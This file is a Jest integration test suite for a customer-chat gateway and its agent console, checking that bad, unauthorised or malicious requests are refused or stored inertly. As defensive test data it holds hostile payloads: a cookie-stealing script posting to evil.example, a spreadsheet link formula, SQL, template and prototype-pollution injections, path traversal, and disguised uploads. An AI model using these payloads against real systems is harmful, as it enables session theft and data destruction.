import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { type StartedApp, startApp } from '../support/app.js';
import { ChatClient } from '../support/chat-client.js';
import { closeCodeFor } from '../support/chat-socket.js';
import { fingerprint } from '../support/fingerprint.js';
import { SeatClient } from '../support/seat-client.js';
import { inStore } from '../support/store.js';

jest.setTimeout(60_000);

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const MB = 1024 * 1024;

interface Answer {
  readonly code: string;
  readonly message: string;
  readonly field?: string;
  readonly requestId: string;
}
/** A request, what it is refused with and which field the refusal names. */
type Case = readonly [what: string, send: () => Promise<Response>, status: number, field: string | undefined];

let app: StartedApp;
let seat: SeatClient;
let customer: ChatClient;
let other: ChatClient;
/** Of `other`. */
let foreignMedia = '';
let conversation = '';

beforeAll(async () => {
  app = await startApp();
  seat = await SeatClient.signIn(app.url, await app.createAdmin());
  customer = await ChatClient.arrive(app.url);
  other = await ChatClient.arrive(app.url);
  await customer.says('你好');
  const listed = await seat.get<{ conversations: { id: string }[] }>('/api/conversations');
  conversation = listed.conversations[0]?.id ?? '';
  foreignMedia = ((await (await upload(other.token, 'file', PNG)).json()) as { mediaId: string }).mediaId;
});

afterAll(async () => {
  await app?.stop();
});

const request = (path: string, init: RequestInit = {}): Promise<Response> => fetch(app.url + path, init);
const bearer = (token: string): Record<string, string> => ({ authorization: `Bearer ${token}` });
const says = (body: unknown) => () => customer.post(body);
const text = (value: unknown) => says({ clientMsgId: 'm1', text: value });
const id = (value: unknown) => says({ clientMsgId: value, text: '停电了' });
const withToken = (authorization: string | undefined) => () =>
  request('/api/web/messages', {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(authorization ? { authorization } : {}) },
    body: JSON.stringify({ clientMsgId: 'm1', text: '停电了' }),
  });

function upload(
  token: string,
  field: string,
  bytes: Uint8Array<ArrayBuffer>,
  name = '电表 照片.png',
): Promise<Response> {
  const form = new FormData();
  form.append(field, new Blob([bytes], { type: 'image/png' }), name);
  return request('/api/web/media', { method: 'POST', headers: bearer(token), body: form });
}
const uploads =
  (bytes: Uint8Array<ArrayBuffer>, field = 'file') =>
  () =>
    upload(customer.token, field, bytes);

function uploadsTwo(): Promise<Response> {
  const form = new FormData();
  for (const name of ['a.png', 'b.png']) form.append('file', new Blob([PNG]), name);
  return request('/api/web/media', { method: 'POST', headers: bearer(customer.token), body: form });
}

/** The right signature, under another visitor's name. */
function swapped(): string {
  const [version, , signature] = customer.token.split('.');
  return [version, other.token.split('.')[1], signature].join('.');
}

const table = (title: string, cases: readonly Case[]): void => {
  describe(title, () => {
    it.each(cases)('%s', async (_what, send, status, field) => {
      const before = await fingerprint(seat, [customer, other]);
      const response = await send();
      const body = (await response.json()) as Answer;
      expect({ status: response.status, field: body.field }).toEqual({ status, field });
      expect(body.code).toMatch(/^[a-z]+\.[a-z_]+$/);
      expect(body.message.length).toBeGreaterThan(0);
      expect(body.requestId.length).toBeGreaterThan(0);
      expect(JSON.stringify(body)).not.toMatch(/node_modules|\.js:\d|SELECT|INSERT/);
      expect(await fingerprint(seat, [customer, other])).toBe(before);
    });
  });
};

table('a chat message that cannot be read', [
  ['JSON that breaks off', says('{"clientMsgId":"m1","text":'), 400, 'body'],
  ['nothing', says(''), 400, 'body'],
  ['an array', says('[]'), 400, 'body'],
  ['a bare string', says('"停电了"'), 400, 'body'],
  ['null', says('null'), 400, 'body'],
  [
    'JSON in UTF-16',
    says(Buffer.from('{"clientMsgId":"m1","text":"x"}', 'utf16le').toString('latin1')),
    400,
    'body',
  ],
  ['a body of 70 kB', says({ clientMsgId: 'm1', text: '电'.repeat(70_000) }), 413, 'body'],
  [
    'XML',
    () =>
      request('/api/web/messages', {
        method: 'POST',
        headers: { ...bearer(customer.token), 'content-type': 'application/xml' },
        body: '<text>停电了</text>',
      }),
    415,
    'content-type',
  ],
  [
    'plain text',
    () =>
      request('/api/web/messages', {
        method: 'POST',
        headers: { ...bearer(customer.token), 'content-type': 'text/plain' },
        body: '停电了',
      }),
    400,
    'body',
  ],
]);

table('a chat text that is none', [
  ['missing', says({ clientMsgId: 'm1' }), 400, 'text'],
  ['a number', text(123), 400, 'text'],
  ['null', text(null), 400, 'text'],
  ['true', text(true), 400, 'text'],
  ['an array', text(['停电了']), 400, 'text'],
  ['an object with an operator', text({ $gt: '' }), 400, 'text'],
  ['empty', text(''), 400, 'text'],
  ['only spaces', text(' \u3000\t '), 400, 'text'],
  ['only line ends', text('\r\n\n\r\n'), 400, 'text'],
  ['10,000 characters', text('停'.repeat(10_000)), 400, 'text'],
  ['2,001 characters', text('停'.repeat(2_001)), 400, 'text'],
  ['half of an emoji, its beginning', says('{"clientMsgId":"m1","text":"停电\\ud83d了"}'), 400, 'text'],
  ['half of an emoji, its end', says('{"clientMsgId":"m1","text":"\\ude00停电了"}'), 400, 'text'],
  ['NUL', text('停\u0000电'), 400, 'text'],
  ['backspace', text('停\u0008电'), 400, 'text'],
  ['escape', text('\u001b[31m停电'), 400, 'text'],
  ['delete', text('停\u007f电'), 400, 'text'],
  ['besides an image', says({ clientMsgId: 'm1', text: 'x', mediaId: `med_${'A'.repeat(22)}` }), 400, 'text'],
]);

table('a chat message id that is none', [
  ['missing', says({ text: '停电了' }), 400, 'clientMsgId'],
  ['empty', id(''), 400, 'clientMsgId'],
  ['65 characters', id('a'.repeat(65)), 400, 'clientMsgId'],
  ['a number', id(7), 400, 'clientMsgId'],
  ['with a space', id('a b'), 400, 'clientMsgId'],
  ['with a path', id('../m1'), 400, 'clientMsgId'],
  ['with a line end', id('m1\n'), 400, 'clientMsgId'],
  ['with Chinese', id('消息一'), 400, 'clientMsgId'],
]);

table('keys that do not belong', [
  ['a role', says({ clientMsgId: 'm1', text: 'x', role: 'admin' }), 400, 'role'],
  ['a conversation', says({ clientMsgId: 'm1', text: 'x', conversationId: 'cnv_x' }), 400, 'conversationId'],
  ['a speaker', says({ clientMsgId: 'm1', text: 'x', speaker: 'seat' }), 400, 'speaker'],
  ['__proto__', says('{"clientMsgId":"m1","text":"x","__proto__":{"isAdmin":true}}'), 400, 'body'],
  [
    '__proto__ spelt with escapes',
    says('{"clientMsgId":"m1","text":"x","\\u005f_proto__":{"a":1}}'),
    400,
    'body',
  ],
  [
    'constructor.prototype',
    says('{"clientMsgId":"m1","text":"x","constructor":{"prototype":{"a":1}}}'),
    400,
    'body',
  ],
]);

table('somebody else', [
  ['no token', withToken(undefined), 401, 'authorization'],
  ['an invented token', withToken('Bearer abc'), 401, 'authorization'],
  ['no Bearer', () => withToken(customer.token)(), 401, 'authorization'],
  [
    'a token with a changed signature',
    () => withToken(`Bearer ${customer.token.slice(0, -2)}xx`)(),
    401,
    'authorization',
  ],
  ['a token signed for another visitor', () => withToken(`Bearer ${swapped()}`)(), 401, 'authorization'],
  ['a token in the query', () => request(`/api/web/messages?token=${customer.token}`), 401, 'authorization'],
  [
    "another visitor's image in a message",
    () => says({ clientMsgId: 'm1', mediaId: foreignMedia })(),
    404,
    'mediaId',
  ],
  [
    "another visitor's image to look at",
    () => request(`/api/web/media/${foreignMedia}`, { headers: bearer(customer.token) }),
    404,
    'mediaId',
  ],
  [
    'an image that is not there',
    () => request('/api/web/media/..%2f..%2fetc', { headers: bearer(customer.token) }),
    404,
    'mediaId',
  ],
  ['an image without a token', () => request(`/api/web/media/${foreignMedia}`), 401, 'authorization'],
]);

table('an upload that is refused', [
  [
    'no multipart',
    () =>
      request('/api/web/media', {
        method: 'POST',
        headers: { ...bearer(customer.token), 'content-type': 'application/json' },
        body: '{}',
      }),
    415,
    'content-type',
  ],
  ['another field', uploads(PNG, 'picture'), 400, 'file'],
  ['empty', uploads(Buffer.alloc(0)), 400, 'file'],
  ['a page called .png', uploads(Buffer.from('<html><script>alert(1)</script>')), 415, 'file'],
  [
    'an SVG',
    uploads(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
    415,
    'file',
  ],
  ['a GIF that is a script', uploads(Buffer.from('GIF89a/*')), 415, 'file'],
  ['a PDF', uploads(Buffer.from('%PDF-1.7 /JS')), 415, 'file'],
  ['an archive', uploads(Buffer.from('PK\u0003\u0004')), 415, 'file'],
  ['10 MB and one byte', uploads(Buffer.concat([PNG, Buffer.alloc(10 * MB + 1 - PNG.length)])), 413, 'file'],
  ['two files', uploadsTwo, 413, 'body'],
  ['without a token', () => upload('', 'file', PNG), 401, 'authorization'],
]);

table('a route or a query that is none', [
  ['an unknown address', () => request('/api/nothing'), 404, undefined],
  ['an unknown address of the chat', () => request('/api/web/nothing', { method: 'POST' }), 404, undefined],
  ['a method that is not offered', () => request('/api/web/messages', { method: 'DELETE' }), 404, undefined],
  ['a way up', () => request('/assets/..%2f..%2fpackage.json'), 404, undefined],
  [
    'after a word',
    () => request('/api/web/messages?after=abc', { headers: bearer(customer.token) }),
    400,
    'after',
  ],
  [
    'after a negative number',
    () => request('/api/web/messages?after=-1', { headers: bearer(customer.token) }),
    400,
    'after',
  ],
  [
    'after two numbers',
    () => request('/api/web/messages?after=1&after=2', { headers: bearer(customer.token) }),
    400,
    'after',
  ],
  [
    'after 10^15',
    () => request('/api/web/messages?after=1000000000000000', { headers: bearer(customer.token) }),
    400,
    'after',
  ],
  [
    'an unknown key',
    () => request('/api/web/messages?limit=5', { headers: bearer(customer.token) }),
    400,
    'limit',
  ],
]);

table('the console, not signed in', [
  ...[
    '/api/conversations',
    '/api/conversations/cnv_1',
    '/api/conversations/cnv_1/messages',
    '/api/tickets',
    '/api/tickets/TS2611000012',
    '/api/dead-letters',
    '/api/users',
    '/api/tokens',
    '/api/session',
  ].map((path): Case => [`GET ${path}`, () => request(path), 401, undefined]),
  ...[
    '/api/conversations/cnv_1/takeover',
    '/api/conversations/cnv_1/handback',
    '/api/conversations/cnv_1/messages',
    '/api/guard/check',
    '/api/dead-letters/x/replay',
    '/api/users',
  ].map(
    (path): Case => [
      `POST ${path}`,
      () => request(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }),
      401,
      undefined,
    ],
  ),
  [
    'an invented cookie',
    () => request('/api/conversations', { headers: { cookie: `jiesu_session=${'a'.repeat(43)}` } }),
    401,
    undefined,
  ],
  [
    "a customer's token",
    () => request('/api/conversations', { headers: bearer(customer.token) }),
    401,
    undefined,
  ],
  [
    'the first-run step, a second time',
    () =>
      request('/api/setup', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ username: 'second', password: 'a fine long password' }),
      }),
    409,
    undefined,
  ],
  [
    'a user name that is an object',
    () =>
      request('/api/session', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"username":{"$ne":""},"password":"x"}',
      }),
    400,
    'username',
  ],
]);

const there = (path: string, body: unknown) => () =>
  seat.call('POST', `/api/conversations/${conversation}${path}`, body);

table('the console, signed in', [
  ['a tab that is none', () => seat.call('GET', '/api/conversations?tab=secret'), 400, 'tab'],
  ['a limit beyond all bounds', () => seat.call('GET', '/api/conversations?limit=100000'), 400, 'limit'],
  ['an order column', () => seat.call('GET', '/api/conversations?sort=id;drop'), 400, 'sort'],
  ['a conversation that is not there', () => seat.call('GET', '/api/conversations/cnv_nothing'), 404, 'id'],
  ['its transcript', () => seat.call('GET', '/api/conversations/cnv_nothing/messages'), 404, 'id'],
  ['taking it over', () => seat.call('POST', '/api/conversations/cnv_nothing/takeover'), 404, 'id'],
  ['a force that is a word', there('/takeover', { force: 'yes' }), 400, 'force'],
  ['a takeover for somebody else', there('/takeover', { seatId: 'usr_1' }), 400, 'seatId'],
  [
    'a reply to a conversation one does not hold',
    there('/messages', { clientId: 'c1', text: '您好' }),
    409,
    undefined,
  ],
  ['a reply without an id', there('/messages', { text: '您好' }), 400, 'clientId'],
  ['an empty reply', there('/messages', { clientId: 'c1', text: ' ' }), 400, 'text'],
  [
    'a reply of 2,001 characters',
    there('/messages', { clientId: 'c1', text: '好'.repeat(2_001) }),
    400,
    'text',
  ],
  [
    'a reply as the bot',
    there('/messages', { clientId: 'c1', text: '您好', speaker: 'bot' }),
    400,
    'speaker',
  ],
  ['a ticket state that is none', () => seat.call('GET', '/api/tickets?state=gone'), 400, 'state'],
  ['a ticket number that is none', () => seat.call('GET', '/api/tickets/TS1'), 400, 'number'],
  ['a ticket that is not there', () => seat.call('GET', '/api/tickets/TS2611000012'), 404, undefined],
  ['a dead letter that is none', () => seat.call('POST', '/api/dead-letters/nothing/replay'), 404, 'id'],
  [
    'a text for the guard that is a number',
    () => seat.call('POST', '/api/guard/check', { text: 5 }),
    400,
    'text',
  ],
]);

describe('texts that are dangerous elsewhere', () => {
  it.each([
    '<script>fetch("//evil.example/"+document.cookie)</script>',
    '<img src="x" onerror="document.body.innerHTML=1">',
    '"><svg/onload=prompt`1`>',
    '</title><iframe src=javascript:alert(document.domain)>',
    "'; DROP TABLE messages; --",
    '{{constructor.constructor("return process")()}} \u0024{process.env} <%= 7*7 %>',
    '=HYPERLINK("http://evil.example","点我")',
    '%s%n%x \\u0000 \\x3cscript\\x3e &lt;b&gt; &#60;',
    '停\u200b电\u202e了 ﷽ Z\u0351a\u0334l\u0340 👨‍👩‍👧‍👦 １２３ ①②',
    '第一行\n第二行\t缩进\r\n第三行',
    '🙂'.repeat(1_000),
  ])('are stored and given back to the byte: %j', async (dangerous) => {
    const visitor = await ChatClient.arrive(app.url);
    const messageId = await visitor.sends(dangerous);
    await visitor.waitFor((all) => all.find((m) => m.speaker === 'bot'));
    const own = (await visitor.transcript()).find((m) => m.id === messageId);
    expect(own?.content.text).toBe(dangerous);
    const response = await request('/api/web/messages', { headers: bearer(visitor.token) });
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('the longest text that is allowed is taken whole', async () => {
    const visitor = await ChatClient.arrive(app.url);
    const longest = '停'.repeat(2_000);
    await visitor.sends(longest);
    const heard = await visitor.waitFor((all) => all.find((m) => m.speaker === 'customer'));
    expect(heard.content.text).toBe(longest);
  });
});

describe('a socket that does not say who it is', () => {
  it.each([
    ['no JSON', 'hello', 4001],
    ['another type', '{"type":"message","text":"x"}', 4001],
    ['a since that is negative', '{"type":"hello","token":"x","since":-1}', 4001],
    ['an invented token', '{"type":"hello","token":"v1.a.b","since":0}', 4003],
  ])('%s', async (_what, hello, code) => {
    expect(await closeCodeFor(app.url, hello)).toBe(code);
  });
});

describe('an image that is taken', () => {
  it('comes back to its owner only, under a name of ours, as a download', async () => {
    const response = await upload(customer.token, 'file', PNG, '../../../etc/cron.d/x.php');
    expect(response.status).toBe(201);
    const { mediaId } = (await response.json()) as { mediaId: string };
    expect(mediaId).toMatch(/^med_[A-Za-z0-9_-]{22}$/);
    const back = await request(`/api/web/media/${mediaId}`, { headers: bearer(customer.token) });
    expect(back.headers.get('content-type')).toBe('image/png');
    expect(back.headers.get('content-disposition')).toBe('attachment');
    expect(Buffer.from(await back.arrayBuffer()).equals(PNG)).toBe(true);
  });
});

describe('after all that', () => {
  it('the gateway answers as before, and its tables hold only what was accepted', async () => {
    expect(await customer.says('在吗')).not.toBe('');
    expect((await request('/health/ready')).status).toBe(200);
    await app.app.stop();
    const rows = await inStore(app.backend, (store) =>
      store.query<{ media: number; heard: number; stored: number; waiting: number; users: number }>(
        `SELECT (SELECT count(*) FROM media)::int AS media,
                (SELECT count(*) FROM messages WHERE speaker = 'customer')::int AS heard,
                (SELECT count(*) FROM inbox)::int AS stored,
                (SELECT count(*) FROM inbox WHERE handled_at IS NULL)::int AS waiting,
                (SELECT count(*) FROM users)::int AS users`,
      ),
    );
    expect(rows).toEqual([{ media: 2, heard: 14, stored: 14, waiting: 0, users: 1 }]);
  });
});
